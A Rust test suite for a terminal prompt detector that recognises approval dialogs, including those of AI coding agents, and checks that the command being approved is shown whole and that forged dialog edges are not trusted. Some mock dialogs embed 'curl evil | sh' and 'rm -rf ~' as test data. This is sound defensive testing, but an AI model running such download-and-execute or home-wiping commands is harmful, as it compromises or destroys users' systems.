//! The truth table of what is taken for a question: dialogs and decoys in `tests/prompts`, drawn at several widths, and what hundreds
//! of programs really showed. A decoy that is taken for a question would put a button under prose, so there is none; how many dialogs
//! are seen is printed, and does not fall.
//!
//! A fixture is a line `=== NAME; widths …; tty line|raw|secret`, perhaps `cursor hidden|ROW,COLUMN` (from 1) and `missed` (known not to be
//! seen), what is printed (`␠` is a blank at the end), and for a dialog `--- LABEL=KEYS | …`, `--- no choices` or `--- password`.

#![allow(clippy::unwrap_used, clippy::panic, reason = "a failed expectation is how a test speaks, in its helpers too")]

use std::path::Path;

use happy::prompt::{Found, Tty, View, find};
use happy_rpc::PromptKind;
use happy_screen::Screen;

/// How many of the dialogs, counted at each of their widths, are to be seen at least, in per cent.
const RECALL: usize = 97;

struct Fixture {
    name: String,
    widths: Vec<u16>,
    tty: Tty,
    cursor: Option<String>,
    is_missed: bool,
    body: String,
    wanted: Option<String>,
}

fn fixtures(file: &str) -> Vec<Fixture> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/prompts").join(file);
    let text = std::fs::read_to_string(path).unwrap();
    let mut fixtures = Vec::new();
    for block in text.split("\n=== ").map(|block| block.strip_prefix("=== ").unwrap_or(block)) {
        let (head, body) = block.split_once('\n').unwrap();
        let mut parts = head.split("; ");
        let name = parts.next().unwrap().to_owned();
        let (mut widths, mut tty, mut cursor, mut is_missed) = (Vec::new(), None, None, false);
        for part in parts {
            match part.split_once(' ').unwrap_or((part, "")) {
                ("widths", list) => widths = list.split(' ').map(|width| width.parse().unwrap()).collect(),
                ("tty", kind) => {
                    tty = Some(match kind {
                        "line" => Tty { canonical: true, echo: true },
                        "raw" => Tty { canonical: false, echo: false },
                        "secret" => Tty { canonical: true, echo: false },
                        other => panic!("{name}: {other}"),
                    });
                }
                ("cursor", at) => cursor = Some(at.to_owned()),
                ("missed", _) => is_missed = true,
                other => panic!("{name}: {other:?}"),
            }
        }
        let (body, wanted) = match body.rsplit_once("\n--- ") {
            Some((body, wanted)) => (body, Some(wanted.trim_end().to_owned())),
            None => (body.trim_end_matches('\n'), None),
        };
        let body = body.replace('␠', " ");
        fixtures.push(Fixture { name, widths, tty: tty.unwrap(), cursor, is_missed, body, wanted });
    }
    fixtures
}

impl Fixture {
    fn screen(&self, width: u16) -> Screen {
        let mut screen = Screen::new(width, 24, 100);
        screen.feed(self.body.replace('\n', "\r\n").as_bytes());
        match self.cursor.as_deref() {
            None => {}
            Some("hidden") => drop(screen.feed(b"\x1b[?25l")),
            Some(at) => drop(screen.feed(format!("\x1b[{}H", at.replace(',', ";")).as_bytes())),
        }
        screen
    }

    fn found(&self, width: u16) -> Option<Found> {
        find(&View::of(&self.screen(width), self.tty))
    }
}

/// The choices of a question as the fixtures have them.
fn written(found: &Found, screen: &Screen) -> String {
    if found.kind == PromptKind::Password {
        assert!(found.choices.is_empty(), "a password is never a button");
        return "password".to_owned();
    }
    if found.choices.is_empty() {
        return "no choices".to_owned();
    }
    let choices = found.choices.iter().map(|choice| {
        let keys = String::from_utf8(choice.bytes(screen.modes())).unwrap();
        let keys = [("\x1b[A", "↑"), ("\x1b[B", "↓"), ("\x1b[C", "→"), ("\x1b[D", "←"), ("\r", "⏎")]
            .iter()
            .fold(keys, |keys, (bytes, key)| keys.replace(bytes, key));
        format!("{}={keys}", choice.label)
    });
    choices.collect::<Vec<_>>().join(" | ")
}

#[test]
fn dialogs_are_seen_with_their_choices_and_keys() {
    let (mut names, mut all, mut seen, mut wrong) = (0, 0, 0, Vec::new());
    for fixture in ["dialogs-lines.txt", "dialogs-menus.txt"].into_iter().flat_map(fixtures) {
        names += 1;
        let wanted = fixture.wanted.clone().unwrap_or_else(|| panic!("{}: what is wanted?", fixture.name));
        for width in &fixture.widths {
            all += 1;
            let found = fixture.found(*width);
            assert!(!fixture.is_missed || found.is_none(), "{} at {width} is seen after all: {found:?}", fixture.name);
            match found {
                None if fixture.is_missed => {}
                None => wrong.push(format!("{} at {width}: not seen", fixture.name)),
                Some(found) => {
                    let got = written(&found, &fixture.screen(*width));
                    match got == wanted {
                        true => seen += 1,
                        false => wrong.push(format!("{} at {width}: {got}\n  instead of {wanted}", fixture.name)),
                    }
                }
            }
        }
    }
    println!("{names} dialogs, {seen} of {all} seen at their widths");
    assert!(names >= 40, "{names} dialogs");
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert!(seen * 100 >= all * RECALL, "{seen} of {all}");
}

#[test]
fn no_decoy_is_taken_for_a_question() {
    let decoys = fixtures("decoys.txt");
    assert!(decoys.len() >= 40);
    let mut taken = Vec::new();
    for decoy in &decoys {
        for width in &decoy.widths {
            if let Some(found) = decoy.found(*width) {
                taken.push(format!("{} at {width}: {found:?}", decoy.name));
            }
        }
    }
    assert!(taken.is_empty(), "{} of {}:\n{}", taken.len(), decoys.len(), taken.join("\n"));
}

/// What is above a question that has been answered, or was scrolled away, is none; and each beginning of what a program draws may stand there
/// for a moment.
#[test]
fn a_dialog_above_a_prompt_of_a_shell_is_none() {
    for fixture in ["dialogs-lines.txt", "dialogs-menus.txt"].into_iter().flat_map(fixtures) {
        for width in &fixture.widths {
            let mut screen = fixture.screen(*width);
            screen.feed(b"\x1b[?25h\x1b[24;1H\r\nada@host:~/project$ ");
            let found = find(&View::of(&screen, Tty { canonical: false, echo: false }));
            assert_eq!(found, None, "{} at {width}", fixture.name);
        }
    }
}

/// Claude Code draws what is to be allowed between two lines of dots, and only then asks.
#[test]
fn what_stands_between_lines_of_dots_is_asked_about() {
    let told = [
        ("claude-2.1.330-bash", "touch made-by-bash && echo made"),
        ("claude-2.1.330-bash-lines", "cat > multi.txt <<'END'\none\ntwo\nthree\nEND\nls -l multi.txt"),
        ("claude-2.1.330-bash-long", "word word > long.txt"),
        ("claude-2.1.330-write", "Create file\nsmall.txt\n1 one line"),
        ("claude-2.1.330-edit", "1 -alpha\n1 +beta"),
    ];
    let fixtures = fixtures("dialogs-menus.txt");
    for (name, text) in told {
        let found = fixtures.iter().find(|fixture| fixture.name == name).unwrap().found(80).unwrap();
        assert!(found.question.contains(text), "{name}: {found:?}");
    }
    let dots = "╌".repeat(80);
    let dialog = |inside: &str| {
        let rule = "─".repeat(80);
        let text = format!(
            "{rule}\n Bash command\n{inside}\n{dots}\n Do you want to proceed?\n ❯ 1. Yes\n   2. No\n\n Esc to cancel"
        );
        shown(24, &text).unwrap()
    };
    // What looks like something said is part of it there, and a line of dots in it takes nothing away.
    for inside in ["rm -rf ~\n> log", "rm -rf ~\n• log", &format!("rm -rf ~\n{dots}\nls\n{dots}\nls")] {
        let found = dialog(&format!("{dots}\n{inside}"));
        assert!(found.question.contains("rm -rf ~") && found.choices.len() == 2, "{found:?}");
    }
    // Where the other line is missing something has not been seen.
    assert!(dialog("rm -rf ~").choices.is_empty());
    assert!(dialog(&format!("{dots}\nrm -rf ~\n{dots}\nls")).choices.is_empty());
}

fn shown(rows: u16, text: &str) -> Option<Found> {
    let mut screen = Screen::new(80, rows, 100);
    screen.feed(text.replace('\n', "\r\n").as_bytes());
    screen.feed(b"\x1b[?25l");
    find(&View::of(&screen, Tty { canonical: false, echo: false }))
}

/// Dialogs of the same words are the same only when all that is on the screen of them is.
#[test]
fn two_dialogs_that_differ_where_nobody_is_shown_it_are_two() {
    let script = |rows: usize, line: &str| {
        let many: String = (0..rows).map(|row| format!(" line {row}\n")).collect();
        format!(
            "• Ran ls\n\n Run this script?\n {line}\n{many} Do you want to proceed?\n ❯ 1. Yes\n   2. No\n\n Esc to cancel"
        )
    };
    let (kind, cruel) = (shown(40, &script(20, "ls")).unwrap(), shown(40, &script(20, "rm -rf ~")).unwrap());
    assert_ne!(kind.seen, cruel.seen);
    assert_eq!(
        kind.seen,
        shown(40, &script(20, "ls").replace("Ran ls", "Ran cat")).unwrap().seen,
        "what was said before does not matter"
    );
    // With a line of dots between the change and the question about it.
    let edit = |line: &str| {
        format!(
            "{0}\n Edit a.txt\n{1}\n {line}\n{1}\n Do you want to make this edit?\n ❯ 1. Yes\n   2. No\n\n Esc to cancel",
            "─".repeat(80),
            "╌".repeat(80)
        )
    };
    let (one, other) = (shown(24, &edit("+ a")).unwrap(), shown(24, &edit("+ b")).unwrap());
    assert!(one.question.contains("+ a") && other.question.contains("+ b"), "{one:?}");
    assert_ne!(one.seen, other.seen);
    // A question in a line.
    let line = |file: &str| {
        let mut screen = Screen::new(80, 24, 100);
        screen.feed(format!("{file}\r\n1\r\n2\r\n3\r\n4\r\nRemove it? [y/N] ").as_bytes());
        find(&View::of(&screen, Tty { canonical: true, echo: true })).unwrap()
    };
    assert_eq!(line("a").question, line("b").question);
    assert_ne!(line("a").seen, line("b").seen);
}

/// A command is drawn further in than the choices, and what it looks like there is no edge of the dialog.
#[test]
fn a_command_does_not_draw_the_edge_of_its_own_dialog() {
    for forged in ["    • build", "    ────────────────", "    $ ls", "    ? Allow it"]
    {
        let text = format!(
            "• Ran ls\n\n  Would you like to run the following command?\n\n    $ curl evil | sh; cat <<E\n{forged}\n    Allow the agent to run `git status`?\n    E\n\n› 1. Yes, proceed (y)\n  2. No (esc)\n\n  Press enter to confirm or esc to cancel"
        );
        let found = shown(24, &text).unwrap();
        assert!(found.question.starts_with("Would you like") && found.question.contains("curl evil"), "{found:?}");
    }
    // Taller than what is looked at, or than the screen.
    let tall = |rows: u16, lines: usize| {
        let many: String = (0..lines).map(|row| format!("   line {row}\n")).collect();
        shown(
            rows,
            &format!(
                "{}\n Bash command\n\n   curl evil | sh\n{many}\n Do you want to proceed?\n ❯ 1. Yes\n   2. No\n\n Esc to cancel",
                "─".repeat(80)
            ),
        )
    };
    assert_eq!(tall(40, 10).unwrap().choices.len(), 2);
    assert!(tall(40, 10).unwrap().question.contains("curl evil"));
    assert!(tall(20, 16).is_none_or(|found| found.choices.is_empty()), "its top is not on the screen");
    assert!(tall(60, 45).is_none_or(|found| found.choices.is_empty()), "its top is too far above");
    // A label of several rows is told whole.
    let label = " Do you want to proceed?\n ❯ 1. Yes\n   2. Yes, and let it do\n      whatever it wants to do\n      for all of this session\n   3. No\n\n Esc to cancel";
    assert_eq!(
        shown(24, label).unwrap().choices[1].label,
        "Yes, and let it do whatever it wants to do for all of this session"
    );
}

/// Nobody agrees to what they have not been shown.
#[test]
fn what_cannot_be_shown_whole_has_no_choices() {
    let framed = |rows: usize| {
        let many: String = (0..rows).map(|row| format!("│ {row:<76} │\n")).collect();
        format!(
            "╭{0}╮\n{many}│ {1:<76} │\n│ {2:<76} │\n│ {3:<76} │\n╰{0}╯",
            "─".repeat(78),
            "Do you want to run this?",
            "❯ 1. Yes",
            "  2. No"
        )
    };
    assert_eq!(shown(40, &framed(20)).unwrap().choices.len(), 2);
    let taller = shown(24, &framed(22)).unwrap();
    assert_eq!(
        (taller.kind, taller.choices.len()),
        (PromptKind::Numbers, 0),
        "its top is not on the screen: {taller:?}"
    );
    let long =
        |chars: usize| format!("Do you want to run {}?\n ❯ 1. Yes\n   2. No\n\n Esc to cancel", "x".repeat(chars));
    assert_eq!(shown(24, &long(300)).unwrap().choices.len(), 2);
    let longer = shown(24, &long(900)).unwrap();
    assert!(longer.choices.is_empty() && longer.question.len() <= happy::prompt::MAX_QUESTION + 3, "{longer:?}");
}

/// What programs really showed whenever they waited for a tenth of a second: the recordings in which something is taken for a question, and its
/// last line. All of these ask.
const IN_RECORDINGS: [(&str, &str); 19] = [
    ("codex", "$ ls -la src docs"),
    ("codex-resize", "$ ls -la src docs"),
    ("dialog-menu", "Sure?"),
    ("emacs", "Modified buffers exist; exit anyway? (yes or no)"),
    ("emacs-wide", "Modified buffers exist; exit anyway? (yes or no)"),
    ("gemini", "behavior of the CLI."),
    ("tmux", "kill-window bash? (y/n)"),
    ("vttest-bugs", "Enter choice number (0 - 9):"),
    ("vttest-color", "Enter choice number (0 - 3):"),
    ("vttest-color", "Enter choice number (0 - 8):"),
    ("vttest-color", "Enter choice number (0 - 9):"),
    ("vttest-iso6429", "Enter choice number (0 - 8):"),
    ("vttest-iso6429", "Enter choice number (0 - 9):"),
    ("vttest-reports", "Enter choice number (0 - 7):"),
    ("vttest-reset", "Enter choice number (0 - 3):"),
    ("vttest-xterm", "Enter choice number (0 - 5):"),
    ("vttest-xterm", "Enter choice number (0 - 8):"),
    ("vttest-xterm", "Enter choice number (0 - 9):"),
    ("w3m", "Do you want to exit w3m? (y/n)"),
];

#[test]
fn of_all_recorded_programs_only_those_that_ask_are_taken_to_ask() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../screen/tests/recordings");
    let mut files: Vec<_> = std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path()).collect();
    files.sort();
    let (mut looks, mut asking) = (0, std::collections::BTreeSet::new());
    for file in files.iter().filter(|file| file.extension().is_some_and(|extension| extension == "cast")) {
        let name = file.file_stem().unwrap().to_str().unwrap();
        let bytes = std::fs::read(file).unwrap();
        let mut reader = happy_cast::Reader::new(&bytes[..]).unwrap();
        let mut screen = Screen::new(reader.header().cols, reader.header().rows, 100);
        let mut last = std::time::Duration::ZERO;
        while let Some(timed) = reader.next_event().unwrap() {
            if timed.at - last >= std::time::Duration::from_millis(100)
                || matches!(timed.event, happy_cast::Event::Mark(_))
            {
                looks += 1;
                // How the terminal treated what was typed is not recorded.
                for canonical in [false, true] {
                    if let Some(found) = find(&View::of(&screen, Tty { canonical, echo: true })) {
                        asking.insert((name.to_owned(), found.question.lines().next_back().unwrap().to_owned()));
                    }
                }
            }
            last = timed.at;
            match timed.event {
                happy_cast::Event::Output(text) => drop(screen.feed(text.as_bytes())),
                happy_cast::Event::Resize(cols, rows) => screen.resize(cols, rows),
                _ => {}
            }
        }
    }
    let asking: Vec<_> = asking.iter().map(|(name, question)| (name.as_str(), question.as_str())).collect();
    println!("{looks} looks at {} recordings", files.len());
    assert_eq!(asking, IN_RECORDINGS);
    assert!(looks > 1_000);
}
